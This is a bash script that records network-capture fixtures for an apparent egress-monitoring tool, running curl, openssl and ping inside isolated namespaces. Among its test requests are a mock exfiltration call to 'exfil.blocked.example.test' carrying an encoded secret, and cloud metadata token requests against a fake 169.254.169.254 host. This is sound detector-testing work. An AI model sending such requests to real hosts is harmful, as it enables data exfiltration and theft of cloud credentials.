#!/bin/bash
# record_web.sh - record real curl/openssl/ping traffic against nginx and tinyproxy
# into pcaps/web_http.pcap, pcaps/web_tls.pcap and pcaps/web_icmp.pcap
#
# README
#   sudo pcaps/record_web.sh [OUTDIR]          (default: the folder of this script)
#
# Needs root, iproute2, ethtool, nginx, tinyproxy, curl, openssl, ping (iputils-ping),
# python3 and dumpcap (wireshark-common); tshark, if present, audits the run.
# It builds a private four-namespace network and nothing else:
#   ew-web-agent  10.99.0.10/24 fd00:99::10/64           on veth ew-web-a
#   ew-web-proxy  10.99.0.2/24  (tinyproxy on :8080)      on veth ew-web-p
#   ew-web-server 10.99.0.80/24 10.99.0.81/24 fd00:99::80/64 and the fake metadata
#                 host 169.254.169.254/32 (nginx on :80 and :443, a WebSocket
#                 responder on its own 127.0.0.1:8765 behind nginx)  on veth ew-web-s
#   ew-web-switch a bridge ew-web-br joining the other ends ew-web-wa/-wp/-ws
# Every veth is created with both ends already inside these namespaces; the root
# namespace's interfaces are not touched. No default route, no NAT, no link to the
# host's interfaces: the only routes are the on-link 10.99.0.0/24 and fd00:99::/64,
# plus, in the agent, 169.254.169.254/32 on-link and 10.99.0.81/32 with MTU 576 (so a
# TLS ClientHello to that address is cut into three TCP segments). IPv6 runs only in
# the agent and the server, without router advertisements or link-local addresses.
# Offloads (checksum, TSO/GSO/GRO) are off on every veth, so the capture holds wire-size
# segments with real checksums.
#
# dumpcap captures on the agent's veth, one file per analyzer:
#   web_http.pcap  "tcp port 80 or tcp port 8080": origin-form GET/POST, a 403, absolute
#                  URIs through tinyproxy, a host the proxy filters (its 403), CONNECT
#                  (allowed, and refused for port 8443), two pipelined requests, a
#                  WebSocket upgrade (101 and one echoed frame), and metadata-style
#                  requests with Metadata-Flavor / X-aws-ec2-metadata-token-ttl-seconds
#                  to 169.254.169.254
#   web_tls.pcap   "tcp port 443": openssl s_client -tls1_2 and -tls1_3 with SNI and
#                  ALPN h2,http/1.1, curl https with --resolve names, a ClientHello over
#                  2 KB (ffdhe8192 key share, long ALPN list) and a ClientHello split
#                  over three segments (to 10.99.0.81, MSS 536)
#   web_icmp.pcap  ICMP/ICMPv6 without neighbour discovery, plus UDP to port 9999:
#                  ping, a 1000-byte ping, ping -6, and UDP to a closed port (v4 and v6)
#                  answered by port unreachable
# Every client is bounded (curl --max-time 5, timeout 10 openssl, ping -w 5, python
# socket timeouts); each analyzer capture stops by itself after 60 s. A second dumpcap
# on the three switch ports records everything (and stops by itself after 300 s); at the
# end tshark checks that no packet went to
# an address other than these hosts' (the run fails otherwise). A trap kills every process
# started here (by pid, then whatever is left inside these namespaces) and deletes the
# namespaces on any exit.
#
# The capture is real traffic, so ports, keys and timestamps differ on every run:
# record once and commit the files; the golden tests then pin their events.
set -eu

HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/../tests/lib/netns.sh"
OUTDIR=${1:-$HERE}
NS_A=ew-web-agent
NS_P=ew-web-proxy
NS_S=ew-web-server
NS_W=ew-web-switch
ALL_NS="$NS_A $NS_P $NS_S $NS_W"
IF_A=ew-web-a
IF_P=ew-web-p
IF_S=ew-web-s
BR=ew-web-br
IP_A=10.99.0.10
IP_P=10.99.0.2
IP_S=10.99.0.80
IP_S2=10.99.0.81
IP_MD=169.254.169.254
IP6_A=fd00:99::10
IP6_S=fd00:99::80
D=web.example.test
PROXY=http://$IP_P:8080

netns_init record_web.sh /tmp/ew-record-web.XXXXXX "$ALL_NS" # TMP, PIDS, the cleanup trap

[ "$(id -u)" -eq 0 ] || { echo "record_web.sh: must run as root" >&2; exit 2; }
for t in ip ethtool nginx tinyproxy curl openssl ping python3 dumpcap timeout; do
	command -v "$t" >/dev/null || { echo "record_web.sh: $t not found" >&2; exit 2; }
done
chmod 755 "$TMP" # tinyproxy drops to nobody

# leftovers of an interrupted run
netns_clear_leftovers

# --- the network ---------------------------------------------------------------------
netns_create $ALL_NS
netns_ipv4_only "$NS_P" "$NS_W"
netns_ipv6_static "$NS_A" "$NS_S" # IPv6 on fd00:99::/64 only: no RA, no link-local address
NETNS_OFFLOAD_OFF=1
netns_switch "$NS_W" "$BR"
netns_host "$NS_A" "$IF_A" ew-web-wa "$IP_A/24" "$IP6_A/64"
netns_host "$NS_P" "$IF_P" ew-web-wp "$IP_P/24"
netns_host "$NS_S" "$IF_S" ew-web-ws "$IP_S/24" "$IP_S2/24" "$IP_MD/32" "$IP6_S/64"
ip -n "$NS_A" route add "$IP_MD/32" dev "$IF_A" src "$IP_A"
ip -n "$NS_A" route add "$IP_S2/32" dev "$IF_A" src "$IP_A" mtu 576

# audit: everything on the three switch ports from here on, for the address check at
# the end (300 s at most)
netns_audit_start 300

# --- the servers -----------------------------------------------------------------------
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 \
	-keyout "$TMP/key.pem" -out "$TMP/cert.pem" -subj "/CN=www.$D" \
	-addext "subjectAltName=DNS:www.$D,DNS:*.$D,IP:$IP_S,IP:$IP_S2" 2>"$TMP/openssl-req.err"

netns_nginx_conf nginx <<EOF
	server {
		listen $IP_S:80;
		listen $IP_S2:80;
		listen $IP_S:443 ssl http2;
		listen $IP_S2:443 ssl http2;
		server_name www.$D;
		ssl_certificate $TMP/cert.pem;
		ssl_certificate_key $TMP/key.pem;
		ssl_protocols TLSv1.2 TLSv1.3;
		location = / { return 200 "egresswatch test web server\n"; }
		location /blocked/ { return 403; }
		location = /upload { return 201 "stored\n"; }
		location = /ws {
			proxy_pass http://127.0.0.1:8765;
			proxy_http_version 1.1;
			proxy_set_header Upgrade \$http_upgrade;
			proxy_set_header Connection "upgrade";
			proxy_read_timeout 5s;
			proxy_connect_timeout 2s;
		}
		location / { return 200 "ok \$request_uri\n"; }
	}
	server {
		listen $IP_MD:80;
		server_name metadata.google.internal;
		location /computeMetadata/ {
			if (\$http_metadata_flavor != "Google") { return 403; }
			return 200 "vm-1.c.project.internal\n";
		}
		location = /latest/api/token { return 200 "AQAEAEgYm9ndXMtdG9rZW4=\n"; }
		location /latest/meta-data/ { return 200 "ami-id\ninstance-id\niam/\n"; }
		location / { return 404; }
	}
EOF

cat >"$TMP/filter" <<EOF
blocked\.example\.test
EOF
cat >"$TMP/tinyproxy.conf" <<EOF
User nobody
Group nogroup
Port 8080
Listen $IP_P
Timeout 10
LogFile "$TMP/tinyproxy.log"
LogLevel Info
MaxClients 8
Allow 10.99.0.0/24
ConnectPort 443
DisableViaHeader Yes
Filter "$TMP/filter"
FilterDefaultDeny No
EOF
touch "$TMP/tinyproxy.log"
chmod 666 "$TMP/tinyproxy.log"
chmod 644 "$TMP/filter" "$TMP/tinyproxy.conf"

# A WebSocket responder: handshake (RFC 6455 accept key), echo one frame, close.
# At most 8 connections, 5 s per socket, 120 s in all.
cat >"$TMP/ws_server.py" <<'EOF'
import base64, hashlib, socket, sys, time
GUID = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
def recv_exact(c, n):
    b = b""
    while len(b) < n:
        d = c.recv(n - len(b))
        if not d:
            raise OSError("eof")
        b += d
    return b
def handle(c):
    head = b""
    while b"\r\n\r\n" not in head and len(head) < 8192:
        d = c.recv(4096)
        if not d:
            return
        head += d
    key = None
    for line in head.split(b"\r\n")[1:]:
        k, _, v = line.partition(b":")
        if k.strip().lower() == b"sec-websocket-key":
            key = v.strip()
    if key is None:
        c.sendall(b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        return
    acc = base64.b64encode(hashlib.sha1(key + GUID).digest())
    c.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
              b"Connection: Upgrade\r\nSec-WebSocket-Accept: " + acc + b"\r\n\r\n")
    b0, b1 = recv_exact(c, 2)
    n = b1 & 0x7F
    if n == 126:
        n = int.from_bytes(recv_exact(c, 2), "big")
    elif n == 127:
        return
    mask = recv_exact(c, 4) if b1 & 0x80 else b"\0\0\0\0"
    data = bytes(x ^ mask[i % 4] for i, x in enumerate(recv_exact(c, n)))
    if n < 126:
        c.sendall(bytes([0x81, n]) + data)
    c.sendall(b"\x88\x02\x03\xe8")
    try:
        c.recv(64)
    except OSError:
        pass
srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("127.0.0.1", 8765))
srv.listen(4)
open(sys.argv[1], "w").close()
deadline = time.monotonic() + 120
for _ in range(8):
    left = deadline - time.monotonic()
    if left <= 0:
        break
    srv.settimeout(left)
    try:
        c, _ = srv.accept()
    except OSError:
        break
    c.settimeout(5)
    try:
        handle(c)
    except OSError:
        pass
    finally:
        c.close()
EOF

# Agent-side clients that curl cannot be: pipelined requests, a WebSocket session,
# UDP to a closed port. Each socket times out after 5 s (the UDP wait after 2 s).
cat >"$TMP/client.py" <<'EOF'
import socket, sys, time
mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
def read_all(s, until=None, limit=65536):
    buf = b""
    end = time.monotonic() + 5
    while len(buf) < limit and time.monotonic() < end:
        try:
            d = s.recv(4096)
        except socket.timeout:
            break
        if not d:
            break
        buf += d
        if until is not None and until in buf:
            break
    return buf
if mode == "pipeline":
    vhost = sys.argv[4]
    req = b""
    for i, last in ((1, False), (2, True)):
        req += (b"GET /pipelined/%d HTTP/1.1\r\nHost: %s\r\nUser-Agent: ew-pipeline/1\r\n"
                b"Accept: */*\r\n%s\r\n") % (i, vhost.encode(),
                                             b"Connection: close\r\n" if last else b"")
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(req)
    r = read_all(s)
    s.close()
    print("pipeline: %d bytes, %d responses" % (len(r), r.count(b"HTTP/1.1 ")))
elif mode == "ws":
    vhost = sys.argv[4]
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(b"GET /ws HTTP/1.1\r\nHost: %s\r\nUser-Agent: ew-ws/1\r\nUpgrade: websocket\r\n"
              b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
              b"Sec-WebSocket-Version: 13\r\nOrigin: http://%s\r\n\r\n" % (vhost.encode(), vhost.encode()))
    head = read_all(s, until=b"\r\n\r\n")
    print("ws: " + head.split(b"\r\n", 1)[0].decode("latin-1"))
    if b" 101 " in head.split(b"\r\n", 1)[0]:
        msg, mask = b"hello egresswatch", b"\x11\x22\x33\x44"
        s.sendall(bytes([0x81, 0x80 | len(msg)]) + mask +
                  bytes(x ^ mask[i % 4] for i, x in enumerate(msg)))
        r = read_all(s, until=b"\x88\x02")
        print("ws: %d bytes back" % len(r))
        s.sendall(b"\x88\x82" + mask + bytes(x ^ mask[i] for i, x in enumerate(b"\x03\xe8")))
        read_all(s)
    s.close()
elif mode == "udp":
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.connect((host, port))
    s.send(b"egresswatch probe\n")
    try:
        s.recv(512)
        print("udp %s: answered?" % host)
    except ConnectionRefusedError:
        print("udp %s: port unreachable" % host)
    except socket.timeout:
        print("udp %s: no answer" % host)
    s.close()
EOF

netns_bg "$NS_S" python3 "$TMP/ws_server.py" "$TMP/ws.ready" >"$TMP/ws.log" 2>&1
netns_bg "$NS_S" nginx -e "$TMP/nginx.log" -c "$TMP/nginx.conf" -p "$TMP/ngx" \
	>"$TMP/nginx.err" 2>&1
netns_bg "$NS_P" tinyproxy -d -c "$TMP/tinyproxy.conf" >"$TMP/tinyproxy.err" 2>&1

ready=
for _ in $(seq 1 30); do
	if [ -e "$TMP/ws.ready" ] &&
		ip netns exec "$NS_A" curl -s --max-time 2 "http://$IP_S/" 2>/dev/null | grep -q "test web server" &&
		ip netns exec "$NS_A" curl -s --max-time 2 -x "$PROXY" "http://$IP_S/" 2>/dev/null | grep -q "test web server"; then
		ready=1; break
	fi
	sleep 0.2
done
[ -n "$ready" ] || { echo "record_web.sh: nginx, tinyproxy or the WebSocket responder did not start" >&2; exit 1; }

# --- captures --------------------------------------------------------------------------
start_capture() { # start_capture NAME FILTER: dumpcap on the agent's veth, 60 s at most
	netns_capture_start "$NS_A" "$IF_A" "$1" "$2"
}
stop_capture() { netns_capture_stop --strict; } # fails if the capture stopped by itself
agent() { netns_log_exec "$NS_A" "$TMP/agent.log" "$@"; } # agent CMD...: log, never fail
CURL=(curl -sS --max-time 5 -o /dev/null -w '%{http_code}\n')
RES80=(--resolve "www.$D:80:$IP_S")

start_capture web_http "tcp port 80 or tcp port 8080"
agent "${CURL[@]}" "${RES80[@]}" "http://www.$D/index.html?lang=en"
agent "${CURL[@]}" "${RES80[@]}" -d "user=alice&note=quarterly+report" "http://www.$D/upload"
agent "${CURL[@]}" "${RES80[@]}" "http://www.$D/blocked/secret.txt"
agent "${CURL[@]}" -x "$PROXY" "http://$IP_S/via-proxy/page?q=egress"
agent "${CURL[@]}" -x "$PROXY" -d "k=v" "http://$IP_S/upload"
agent "${CURL[@]}" -x "$PROXY" "http://exfil.blocked.example.test/drop?d=c2VjcmV0"
agent "${CURL[@]}" -k -p -x "$PROXY" "https://$IP_S/tunnel"
agent "${CURL[@]}" -k -p -x "$PROXY" "https://$IP_S:8443/"
agent python3 "$TMP/client.py" pipeline "$IP_S" 80 "www.$D"
agent python3 "$TMP/client.py" ws "$IP_S" 80 "www.$D"
agent "${CURL[@]}" -H "Metadata-Flavor: Google" "http://$IP_MD/computeMetadata/v1/instance/hostname"
agent "${CURL[@]}" -X PUT -H "X-aws-ec2-metadata-token-ttl-seconds: 21600" "http://$IP_MD/latest/api/token"
agent "${CURL[@]}" -H "X-aws-ec2-metadata-token: AQAEAEgYm9ndXMtdG9rZW4=" "http://$IP_MD/latest/meta-data/"
stop_capture

# ALPN lists: a long one (about 900 bytes) for the hello over 2 KB, a shorter one for
# the hello cut into three segments
alpn_list() { # alpn_list N: h2,http/1.1 and N made-up 40-byte protocol names
	printf 'h2,http/1.1'
	for i in $(seq -w 1 "$1"); do printf ',x-egresswatch-padding-protocol-name-%s' "$i"; done
}
SCLIENT=(timeout 10 openssl s_client -connect)
start_capture web_tls "tcp port 443"
agent "${SCLIENT[@]}" "$IP_S:443" -tls1_2 -servername "tls12.$D" -alpn h2,http/1.1 </dev/null
agent "${SCLIENT[@]}" "$IP_S:443" -tls1_3 -servername "tls13.$D" -alpn h2,http/1.1 </dev/null
agent "${CURL[@]}" -k --resolve "www.$D:443:$IP_S" "https://www.$D/"
agent "${CURL[@]}" -k --http1.1 --tls-max 1.2 --resolve "api.$D:443:$IP_S" "https://api.$D/v1/items"
agent "${SCLIENT[@]}" "$IP_S:443" -tls1_3 -servername "big-hello.$D" -groups ffdhe8192:X25519 \
	-alpn "$(alpn_list 22)" </dev/null
agent "${SCLIENT[@]}" "$IP_S2:443" -tls1_3 -servername "split-hello.$D" -groups ffdhe2048:X25519 \
	-alpn "$(alpn_list 16)" </dev/null
stop_capture

start_capture web_icmp "icmp or udp port 9999 or (icmp6 and ip6[40] < 133)"
agent ping -n -c 3 -i 0.2 -W 2 -w 5 "$IP_S"
agent ping -n -c 2 -i 0.2 -W 2 -w 5 -s 1000 "$IP_S"
agent ping -6 -n -c 2 -i 0.2 -W 2 -w 5 "$IP6_S"
agent python3 "$TMP/client.py" udp "$IP_S" 9999
agent python3 "$TMP/client.py" udp "$IP6_S" 9999
stop_capture

# --- audit: no packet may have gone to an address outside these hosts ------------------
netns_audit_finish "10\.99\.0\.(2|10|80|81)|169\.254\.169\.254|fd00:99::(10|80)|ff02::[0-9a-f:]+"

for f in web_http web_tls web_icmp; do
	cp "$TMP/$f.pcap" "$OUTDIR/$f.pcap"
	chmod 644 "$OUTDIR/$f.pcap"
	echo "record_web.sh: wrote $OUTDIR/$f.pcap ($(wc -c <"$OUTDIR/$f.pcap") bytes)"
done
echo "record_web.sh: client results (HTTP codes, TLS sessions, pings, scripted clients):"
grep -a -E '^[0-9]{3}$|^(ws|pipeline|udp)|^New, |packets transmitted|^  \(exit' "$TMP/agent.log" |
	sed 's/, time .*//' | sort | uniq -c
